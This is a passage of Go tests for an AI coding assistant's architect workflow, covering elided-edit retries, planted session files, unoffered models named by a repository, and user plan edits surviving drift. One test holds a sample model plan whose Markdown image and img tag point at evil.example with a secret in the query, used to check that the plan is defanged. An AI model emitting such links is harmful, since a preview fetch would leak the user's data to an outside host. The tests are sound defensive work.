		archReplies: []modeltest.Reply{{Text: plan("1. In `main.go`, print \"bye\" after the greeting.")},
			{ToolCalls: []model.ToolCall{elided}}, {ToolCalls: []model.ToolCall{good}}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "say bye"})
	reqs := e.arch.Requests()
	if len(reqs) != 3 {
		t.Fatalf("calls = %d, want 3 (architect, elided edit, retry)", len(reqs))
	}
	if retry := userText(reqs[2]); !strings.Contains(retry, "FAILED") || !strings.Contains(strings.ToLower(retry), "elision") && !strings.Contains(retry, "existing code") {
		t.Errorf("the retry does not say the elision was refused:\n%s", retry)
	}
	if e.state(id) != commands.StateProposed || len(e.client.proposals[0].Hunks) != 1 || strings.Contains(e.client.proposals[0].Hunks[0].NewText, "existing code") {
		t.Fatalf("state %q, proposals %+v", e.state(id), e.client.proposals)
	}
}

// The architect's plan is defanged before it is shown: an image or an HTML
// tag that would make a Markdown preview of the plan document fetch a URL
// the model chose is written as a link or as text (planview.Defang).
func TestModelPlanCannotMakeThePreviewFetch(t *testing.T) {
	hostile := "1. In main.go, change \"hello\" to \"bonjour\". ![x](https://evil.example/p.png?k=SECRET) <img src=https://evil.example/t.gif>"
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
		archReplies: []modeltest.Reply{{Text: plan(hostile)}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet"})
	doc, err := os.ReadFile(filepath.Join(e.root, ".aide", "plans", id+".md"))
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(doc), "![") || strings.Contains(string(doc), "<img") {
		t.Errorf("the plan document keeps what a preview fetches:\n%s", doc)
	}
	if !strings.Contains(string(doc), "[x](https://evil.example/p.png?k=SECRET)") {
		t.Errorf("the plan's text is lost, not defanged:\n%s", doc)
	}
}

// A repository can ship .aide/sessions: only the newest session files are
// read, each task is cut, and aide.sessions stays bounded.
func TestPlantedSessionFilesAreBounded(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo}})
	big := strings.Repeat("x", 100_000)
	for i := 0; i < commands.MaxReloadedSessions+20; i++ {
		id := fmt.Sprintf("20260101-%06d-abcdef", i)
		writeFile(t, e.root, ".aide/sessions/"+id+".json",
			`{"session":"`+id+`","kind":"architect","task":"`+big+`","state":"waiting for approval","createdAt":"2026-01-01T00:00:00Z","architectModel":"arch/big","editorModel":"arch/big"}`)
	}
	e.eng = e.newEngine()
	list := e.eng.Sessions()
	if len(list) != commands.MaxReloadedSessions {
		t.Fatalf("%d sessions loaded, want the newest %d", len(list), commands.MaxReloadedSessions)
	}
	if list[0].Session != fmt.Sprintf("20260101-%06d-abcdef", 20) {
		t.Fatalf("not the newest: the oldest kept is %s", list[0].Session)
	}
	for _, s := range list {
		if len(s.Task) > 4*commands.MaxListedTaskChars+10 {
			t.Fatalf("a task of %d bytes listed", len(s.Task))
		}
	}
	if !strings.Contains(strings.Join(e.eng.LoadProblems, "\n"), "only the newest") {
		t.Fatalf("load problems: %v", e.eng.LoadProblems)
	}
}

// TestReloadedSessionTakesOnlyOfferedModels: a session state file under
// .aide/sessions may be the repository's. A model it names that the
// user's settings do not offer is neither called nor offered; the
// configured model is used instead, while a priced model (one the user
// offers) is kept.
func TestReloadedSessionTakesOnlyOfferedModels(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
		config:      `{"prices": {"arch/priced": {"input": 1, "output": 2}}}`,
		archReplies: []modeltest.Reply{{Text: plan("1. " + greetPlan)}}})
	const planted, kept = "20260101-000000-abcdef", "20260101-000001-abcdef"
	writeFile(t, e.root, ".aide/sessions/"+planted+".json",
		`{"session":"`+planted+`","kind":"architect","task":"greet the world","state":"waiting for approval","createdAt":"2026-01-01T00:00:00Z","architectModel":"arch/planted","editorModel":"arch/planted"}`)
	writeFile(t, e.root, ".aide/sessions/"+kept+".json",
		`{"session":"`+kept+`","kind":"architect","task":"greet the world","state":"waiting for approval","createdAt":"2026-01-01T00:00:01Z","architectModel":"arch/priced","editorModel":"arch/big"}`)
	e.eng = e.newEngine()
	for _, c := range []struct{ id, want string }{{planted, "big"}, {kept, "priced"}} {
		e.arch.Script(modeltest.Reply{Text: plan("1. " + greetPlan)})
		if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": c.id}); err != nil {
			t.Fatal(err)
		}
		reqs := e.arch.Requests()
		if got := reqs[len(reqs)-1].Body["model"]; got != c.want {
			t.Fatalf("session %s: the plan was derived again with model %v, want %q", c.id, got, c.want)
		}
	}
}

// Contract §4: a saved edit of a waiting plan is the plan, whatever
// rewrites the plan document before approval. Here live drift (a file the
// plan depends on changes while it waits) refreshes the document after
// the user saved an edit and closed it: the refresh must keep the edit,
// and approval must carry it out.
func TestSavedPlanEditSurvivesALiveDriftRefresh(t *testing.T) {
	e := newEnv(t, envOpts{files: map[string]string{"main.go": mainGo},
		archReplies: []modeltest.Reply{{Text: plan(greetPlan)},
			{ToolCalls: []model.ToolCall{editCall("main.go", "\"hello there\"", "\"bonjour\"")}}}})
	id := e.start(commands.CmdArchitect, map[string]any{"uri": e.uri("main.go"), "task": "greet"})
	rel := ".aide/plans/" + id + ".md"
	doc, _ := os.ReadFile(filepath.Join(e.root, rel))
	edited := strings.Replace(string(doc), "\"hello, world\"", "\"bonjour\" (USER-EDIT)", 1)
	if edited == string(doc) {
		t.Fatal("plan text not found in the document")
	}
	writeFile(t, e.root, rel, edited)
	writeFile(t, e.root, "main.go", strings.Replace(mainGo, "\"hello\"", "\"hello there\"", 1))
	e.eng.FilesChanged([]string{"main.go"})
	if len(e.client.eventsNamed("drift")) != 1 {
		t.Fatalf("drift events = %d: the refresh did not happen", len(e.client.eventsNamed("drift")))
	}
	after, _ := os.ReadFile(filepath.Join(e.root, rel))
	if !strings.Contains(string(after), "USER-EDIT") {
		t.Fatalf("the refresh overwrote the user's saved edit:\n%s", after)
	}
	if !strings.Contains(string(after), "## Drift") {
		t.Errorf("the refresh did not add the drift:\n%s", after)
	}
	if _, err := e.exec(commands.CmdApprovePlan, map[string]any{"session": id}); err != nil {
		t.Fatal(err)
	}
	if sys := systemOf(e.arch.Requests()[1]); !strings.Contains(sys, "USER-EDIT") {
		t.Fatalf("the editor did not get the edited plan:\n%s", sys)
	}
}
